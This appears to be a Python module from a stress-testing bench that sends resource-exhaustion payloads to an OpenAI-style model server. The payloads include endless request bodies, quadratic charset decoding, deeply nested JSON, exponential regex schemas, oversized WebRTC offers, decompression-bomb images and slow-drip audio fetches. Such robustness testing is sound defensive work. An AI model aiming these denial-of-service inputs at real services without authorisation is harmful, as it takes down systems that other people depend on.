"""Attacks with the content of requests: bodies, files, texts, JSON, offers, images, schemas, URLs.

Some attacks use a hostile model server.
"""

from __future__ import annotations

import asyncio
import base64
import io
import json
import random
import string
from collections.abc import AsyncIterator
from typing import Any

import av
import httpx
import numpy as np
from aiortc import RTCConfiguration, RTCPeerConnection
from aiortc.mediastreams import AudioStreamTrack
from bench.hostile.client import NO_ANSWER, Target, hold
from PIL import Image

FORM = "multipart/form-data; boundary=B"
CHAT, FILES = "/v1/chat/completions", "/v1/audio/transcriptions"
MB = 1 << 20
# Seconds after which clients disconnect: from a request with a schema, and from an answer of the hostile model server.
LEAVES_SCHEMA_S, LEAVES_MODEL_S = 3.0, 20.0
MODEL_CHATS = 4


def part(name: str, more: str = "") -> bytes:
    return f'--B\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n'.encode()


async def endless(head: bytes, num_bytes: int) -> AsyncIterator[bytes]:
    yield head
    for _ in range(num_bytes >> 16):
        yield b"x" * (1 << 16)


async def bodies(target: Target) -> None:
    """Send endless bodies without a length, and form fields in a charset whose decoding takes quadratic time."""
    most = (4 if target.quick else 256) * MB
    async with target.client() as client:
        for path, head, kind in (
            ("/v1/realtime/client_secrets", b"", "application/json"),
            (CHAT, b"", "application/json"),
            (FILES, part("file", '; filename="a.wav"'), FORM),
            ("/v1/audio/voices", part("audio_sample", '; filename="a.wav"'), FORM),
        ):
            await target.request(client, "POST", path, content=endless(head, most), headers={"Content-Type": kind})
        field = part("model") + b"a-" * ((100 << 10) if target.quick else MB // 2) + b"\r\n--B--\r\n"
        for charset in ("punycode", "unicode_escape"):
            kind = f"{FORM}; charset={charset}"
            await target.request(client, "POST", FILES, content=field, headers={"Content-Type": kind})


def silence(hours: float) -> bytes:
    """Return silence as FLAC, which takes a few kilobytes per hour."""
    out = io.BytesIO()
    with av.open(out, "w", format="flac") as container:
        stream = container.add_stream("flac", rate=8000, layout="mono")
        frame = av.AudioFrame.from_ndarray(np.zeros((1, 480_000), np.int16), format="s16", layout="mono")
        frame.sample_rate = 8000
        for _ in range(max(1, round(hours * 60))):
            frame.pts = None
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return out.getvalue()


async def files(target: Target) -> None:
    """Send small files with eight hours of silence, four at once, and disconnect before the answer."""
    data = silence(0.02 if target.quick else 8)
    form = {"data": {"model": "default"}, "files": {"file": ("a.flac", data)}}
    async with target.client() as client:
        await asyncio.gather(*(target.request(client, "POST", FILES, **form) for _ in range(4)))
        await asyncio.gather(*(target.request(client, "POST", FILES, timeout=1.0, **form) for _ in range(4)))


def chat(**fields: Any) -> dict[str, Any]:
    return {"model": "default", "max_tokens": 1, "messages": [{"role": "user", "content": "Hi."}]} | fields


async def text(target: Target) -> None:
    """Send words of several megabytes to be tokenized: in chats, instructions, items and a transcriber's prompt."""
    word = "a" * ((256 << 10) if target.quick else 3 * MB)
    async with target.client() as client:
        await target.request(client, "POST", CHAT, json=chat(messages=[{"role": "user", "content": word}]))
        await target.request(client, "POST", "/v1/audio/speech", json={"input": word, "voice": "alloy"})
        small = {"data": {"prompt": word[: 200 << 10]}, "files": {"file": ("a.flac", silence(0.02))}}
        await target.request(client, "POST", FILES, **small)
    asked = {"type": "response.create", "response": {"instructions": word * 2}}
    await target.send_all([asked] * (1 if target.quick else 8), 1 if target.quick else 10)


async def json_documents(target: Target) -> None:
    """Send JSON that is deep, wide or odd, and fields that are expensive to check: schemas, logit_bias, tools."""
    deep = 200_000
    documents = [
        b"[" * deep + b"]" * deep,
        b'{"a":' * 5000 + b"1" + b"}" * 5000,
        b'{"type":"session.update","session":' + b"9" * MB + b"}",
        b'{"type":"session.update","session":{"instructions":"\\ud800"}}',
        b'{"type":"session.update","session":{"max_output_tokens":1e400}}',
        json.dumps({f"k{n}": n for n in range(100_000)}).encode(),
        b"null",
        b"\xff\xfe",
    ]
    pattern = {"type": "object", "properties": {f"p{n}": {"type": "string", "pattern": "(a|b)*c"} for n in range(40)}}
    tools = [
        {"type": "function", "function": {"name": f"f{n}", "parameters": pattern}}
        for n in range(3 if target.quick else 100)
    ]
    async with target.client() as client:
        for document in documents:
            await target.request(client, "POST", CHAT, content=document, headers={"Content-Type": "application/json"})
        for fields in (
            {"logit_bias": {str(n): 1 for n in range(100_000)}},
            {"logit_bias": {"0": 1e308}},
            {"logit_bias": {"-1": 5}},
            {"tools": tools},
        ):
            await target.request(client, "POST", CHAT, json=chat(**fields))
    await target.send_all((document.decode(errors="replace") for document in documents), 0.5 if target.quick else 2)


async def offer() -> str:
    """Return a complete WebRTC offer like a browser's."""
    peer = RTCPeerConnection(RTCConfiguration(iceServers=[]))
    peer.addTrack(AudioStreamTrack())
    peer.createDataChannel("oai-events")
    await peer.setLocalDescription(await peer.createOffer())
    sdp = str(peer.localDescription.sdp)
    await peer.close()
    return sdp


async def sdp(target: Target) -> None:
    """Send offers with thousands of candidates or formats, truncated offers, and offers of calls that nobody joins."""
    whole = await offer()
    at = whole.index("a=ice-ufrag")
    candidate = "a=candidate:1 1 udp 2130706431 192.0.2.2 1000 typ host\r\n"
    offers = [
        whole[:at] + candidate * (500 if target.quick else 8000) + whole[at:],
        whole[:at] + candidate * 60 + whole[at:],
        whole[:at] + "a=rtpmap:96 opus/48000/2\r\n" * 1500 + whole[at:],
        whole[:at],
        *(whole[: len(whole) * n // 8] for n in range(8)),
    ]
    kind = {"Content-Type": "application/sdp"}
    async with target.client() as client:
        for content in offers:
            await target.request(client, "POST", "/v1/realtime/calls", content=content, headers=kind)
        joinless = 2 if target.quick else 20
        await asyncio.gather(
            *(
                target.request(client, "POST", "/v1/realtime/calls", content=whole, headers=kind)
                for _ in range(joinless)
            )
        )


def picture(side: int, kind: str) -> str:
    """Return a single-colour image as a data URI: a few kilobytes that decode to side x side pixels."""
    out = io.BytesIO()
    Image.new("RGBA" if kind == "png" else "RGB", (side, side)).save(out, kind)
    return f"data:image/{kind};base64,{base64.b64encode(out.getvalue()).decode()}"


async def images(target: Target) -> None:
    """Send small files that decode to tens of millions of pixels: in chats, conversation items and video frames."""
    sides = (1000,) if target.quick else (6300, 2880, 9000)
    pictures = [picture(side, kind) for side in sides for kind in ("png", "webp")]

    async def frames() -> None:
        config = {"type": "session.config", "modalities": ["text"], "num_frames": 2, "max_frames": 8}
        shown = [{"type": "video.frame", "data": uri.partition(",")[2]} for uri in pictures]
        sent = [config, *shown * (1 if target.quick else 4)]
        await target.send_all(sent, 0.5 if target.quick else 5, "/v1/video/chat/stream")

    async def items() -> None:
        contents = [[{"type": "input_image", "image_url": uri}] for uri in pictures]
        messages = [{"type": "message", "role": "user", "content": content} for content in contents]
        sent = [{"type": "conversation.item.create", "item": item} for item in messages]
        await target.send_all(sent, 0.5 if target.quick else 5)

    async with target.client() as client:
        for uri in pictures:
            content = [{"type": "image_url", "image_url": {"url": uri}}, {"type": "text", "text": "What is it?"}]
            await target.request(client, "POST", CHAT, json=chat(messages=[{"role": "user", "content": content}]))
    await asyncio.gather(*(frames() for _ in range(1 if target.quick else 4)), items())


def intersection(letters: str) -> dict[str, Any]:
    """Return a schema for text that contains all these letters.

    The intersection of its patterns grows exponentially.
    """
    return {"allOf": [{"type": "string", "pattern": f".*{letter}.*"} for letter in letters]}


def hidden(schema: dict[str, Any]) -> dict[str, Any]:
    """Return the same schema with its patterns behind references, which only the library resolves."""
    patterns = {f"p{i}": inner for i, inner in enumerate(schema["allOf"])}
    return {"$defs": patterns, "allOf": [{"$ref": f"#/$defs/{name}"} for name in patterns]}


def as_format(schema: dict[str, Any]) -> dict[str, Any]:
    return {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema}}


async def schemas(target: Target) -> None:
    """Send six requests once, each with another intersection of patterns, and disconnect after 3 s.

    One request has plain patterns. The other five have them behind references.
    """
    draw = random.Random(target.tried)
    number = 14 if target.quick else 20
    async with target.client() as client:
        drawn = [intersection("".join(draw.sample(string.ascii_lowercase, number))) for _ in range(6)]
        wanted = [as_format(each) for each in (drawn[0], *map(hidden, drawn[1:]))]
        asked = (
            target.request(client, "POST", CHAT, json=chat(response_format=each), timeout=LEAVES_SCHEMA_S)
            for each in wanted
        )
        await asyncio.gather(*asked)
    # The effect that counts is the one after the clients have disconnected.
    await hold()


async def fetches(target: Target) -> None:
    """Request thirty-two voices at once. The server fetches their files, which arrive a byte at a time, without end."""

    async def one(number: int) -> None:
        body = {
            "input": "Hello.",
            "ref_audio": f"{target.beside}/drip/{target.tried}-{number}",
            "ref_text": "Hello.",
            "response_format": "pcm",
        }
        await target.request(client, "POST", "/v1/audio/speech", json=body)

    async with target.client() as client:
        await asyncio.gather(*(one(number) for number in range(4 if target.quick else 32)))


async def chats(target: Target) -> None:
    """Send four chats at once, each with a tool and a streamed answer, while the model server is hostile."""
    tool = {"type": "function", "function": {"name": "add", "parameters": {"type": "object"}}}
    body = chat(max_tokens=1000, tools=[tool], stream=True)

    async def one() -> None:
        try:
            async with asyncio.timeout(2.0 if target.quick else LEAVES_MODEL_S):
                await target.request(client, "POST", CHAT, json=body)
        except TimeoutError:
            target.outcomes[NO_ANSWER] += 1

    limits = httpx.Limits(max_connections=None)
    async with httpx.AsyncClient(base_url=target.url, headers=target.headers, timeout=None, limits=limits) as client:
        await asyncio.gather(*(one() for _ in range(MODEL_CHATS)))
